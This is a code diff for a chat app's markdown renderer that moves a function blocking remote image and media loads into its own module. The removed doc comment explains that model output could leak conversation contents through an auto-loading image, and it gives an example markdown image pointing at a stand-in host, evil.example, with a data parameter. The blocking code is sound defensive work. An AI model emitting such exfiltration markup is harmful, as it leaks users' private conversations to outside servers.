@@ -10,6 +10,7 @@ import { highlightSync } from './highlight';
 import { i18n } from '../i18n/i18n';
 import { hasMath, mathExtension, typesetMath } from './math';
 import { mermaidBlockHTML } from './mermaid';
+import { blockRemoteLoads } from './remote-loads';
 
 /** State of one checklist item in a task plan. */
 export type TaskMark = 'done' | 'todo' | 'progress';
@@ -138,44 +139,13 @@ function installHooks(): void {
         if (!node.hasAttribute('title')) node.setAttribute('title', href);
       }
     } else {
-      blockRemoteLoads(node);
+      blockRemoteLoads(node, keepImages);
       if (node.nodeName === 'IMG') {
         node.setAttribute('loading', 'lazy');
         node.setAttribute('referrerpolicy', 'no-referrer');
       }
     }
   });
-}
-
-/** Attributes through which an element other than a link loads a URL by itself. */
-const LOAD_ATTRS = ['src', 'poster', 'background', 'href', 'xlink:href', 'data'];
-
-/** A URL that leaves the app: http(s), or protocol-relative ("//host/x"). */
-const REMOTE = /^\s*(https?:|\/\/)/i;
-
-/**
- * Removes every remote URL an element would load on its own (an image's or a video's src,
- * a poster, a legacy background, an SVG image's href): model output and page text could
- * otherwise send what the conversation holds to any server with no click (an answer
- * ending in `![x](https://evil.example/?d=…)`). The URL is kept in data-blocked-src and,
- * for images, shown in the title; nothing is fetched. Rendered with `images` (the user's
- * "Load images" click, or Settings' "always"), an `<img>` keeps an http(s) src (never a
- * protocol-relative one), still with referrerpolicy="no-referrer"; media, posters,
- * backgrounds and SVG images stay blocked.
- */
-function blockRemoteLoads(node: Element): void {
-  for (const attr of LOAD_ATTRS) {
-    const v = node.getAttribute(attr);
-    if (v === null || !REMOTE.test(v)) continue;
-    if (keepImages && node.nodeName === 'IMG' && attr === 'src' && /^\s*https?:\/\//i.test(v)) continue;
-    node.removeAttribute(attr);
-    node.setAttribute('data-blocked-src', v);
-    if (node.nodeName === 'IMG') {
-      const alt = node.getAttribute('alt') ?? '';
-      node.setAttribute('alt', alt !== '' ? i18n.t('tools:markdown.imageBlockedAlt', { alt }) : i18n.t('tools:markdown.imageBlocked'));
-      node.setAttribute('title', i18n.t('tools:markdown.imageBlockedTitle', { url: v }));
-    }
-  }
 }
 
 /**
